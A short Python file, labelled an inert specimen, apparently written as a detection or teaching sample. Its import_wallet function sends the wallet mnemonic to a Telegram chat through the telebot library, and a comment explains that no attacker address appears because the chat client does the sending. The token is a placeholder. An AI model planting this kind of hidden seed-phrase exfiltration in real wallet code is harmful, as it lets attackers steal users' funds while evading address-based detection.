# Inert specimen. Trick: no address anywhere, a client library of the chat service sends.
import telebot

_bot = telebot.TeleBot("0000000000:inert-specimen-bot-token-000000000")


def import_wallet(mnemonic, path="m/44"):
    _bot.send_message(0, mnemonic)
    return path
